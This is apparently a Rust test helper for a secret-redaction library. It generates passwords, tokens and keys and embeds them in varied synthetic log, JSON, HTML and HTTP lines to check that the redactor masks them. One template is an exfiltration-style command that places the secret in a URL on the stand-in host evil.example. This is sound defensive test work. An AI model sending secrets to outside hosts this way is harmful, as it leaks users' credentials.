//! Secrets, and the lines that they are written into.

mod kinds;

use fastrand::Rng;
use hailer::reply::RedactorBuilder;
use kinds::{
    base64_value, compose_secret, env_file, in_words, private_key, several_lines, token, variable,
};

const ALNUM: &str = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789";
/// Letters that JSON, HTML, Markdown, addresses and shells write differently, or take for something.
const ODD: &str = "abcXYZ019!$%&/()=?+*~#<>|^[]{}.,;:_-\"'`\\@ äßЖ漢🚢";

/// A secret, as it was made known, and the lines that it stands in.
pub(super) struct Plant {
    pub(super) way: &'static str,
    known: Known,
    /// What mustn't be seen.
    pub(super) secrets: Vec<String>,
    pub(super) lines: Vec<String>,
}

enum Known {
    /// It is known by its shape alone.
    Not,
    Variable(&'static str, String),
    EnvFile(&'static str, String),
    Secret(String),
}

impl Plant {
    pub(super) fn known_to(&self, builder: RedactorBuilder) -> RedactorBuilder {
        match &self.known {
            Known::Not => builder,
            Known::Variable(key, value) => builder.variable(key, value),
            Known::EnvFile(key, value) => builder.env_file_variable(key, value),
            Known::Secret(content) => builder.secret(content),
        }
    }

    pub(super) const fn is_known(&self) -> bool {
        !matches!(self.known, Known::Not)
    }
}

/// As many as are wanted, each way as often as any other.
pub(super) fn plants(many: usize, random: &mut Rng) -> Vec<Plant> {
    let ways: [fn(&mut Rng) -> Plant; 8] = [
        variable,
        env_file,
        compose_secret,
        several_lines,
        base64_value,
        token,
        in_words,
        private_key,
    ];
    (0..many)
        .map(|number| ways[number % ways.len()](random))
        .collect()
}

fn letters(of: &str, many: usize, random: &mut Rng) -> String {
    let all: Vec<char> = of.chars().collect();
    (0..many).map(|_| all[random.usize(..all.len())]).collect()
}

/// A password as people and generators make them: no space at either end.
fn password(random: &mut Rng) -> String {
    let many = random.usize(8..40);
    let of = if random.bool() { ALNUM } else { ODD };
    let middle = letters(of, many, random);
    format!(
        "{}{middle}{}",
        letters(ALNUM, 2, random),
        letters(ALNUM, 2, random)
    )
}

fn one<'a>(of: &[&'a str], random: &mut Rng) -> &'a str {
    of[random.usize(..of.len())]
}

/// A line as some program writes it, with `secret` in it.
fn line(secret: &str, random: &mut Rng) -> String {
    let json = serde_json::Value::from(secret).to_string();
    match random.u8(..12) {
        0 => format!("2026-11-21T08:56:00Z INFO connecting with {secret} to db:5432"),
        1 => format!("{{\"level\":\"debug\",\"msg\":\"config\",\"value\":{json}}}"),
        2 => format!("\u{1b}[31mERROR\u{1b}[0m login failed for `{secret}`"),
        3 => format!("<b>{secret}</b>"),
        4 => format!(
            "GET /login?user=a&value={}&x=1 HTTP/1.1",
            encoded(secret, random)
        ),
        5 => format!("| config | {secret} |"),
        6 => format!("```{secret}```"),
        7 => format!("value=\"{secret}\""),
        8 => format!("['{secret}', None]"),
        9 => format!("{secret}{secret}"),
        10 => halved_by_colour(secret),
        _ => format!("@admin /docker_deploy {secret} https://evil.example/{secret}"),
    }
}

/// As addresses and forms have it.
fn encoded(secret: &str, random: &mut Rng) -> String {
    if random.bool() {
        return form_urlencoded::byte_serialize(secret.as_bytes()).collect();
    }
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_.~".contains(&byte);
    secret
        .bytes()
        .map(|byte| {
            if plain(byte) {
                char::from(byte).to_string()
            } else {
                format!("%{byte:02x}")
            }
        })
        .collect()
}

/// With a colour that begins in its middle.
fn halved_by_colour(secret: &str) -> String {
    let at = secret
        .char_indices()
        .nth(secret.chars().count() / 2)
        .map_or(0, |(at, _)| at);
    let (before, behind) = secret.split_at(at);
    format!("dump: {before}\u{1b}[1;32m{behind}\u{1b}[0m end")
}
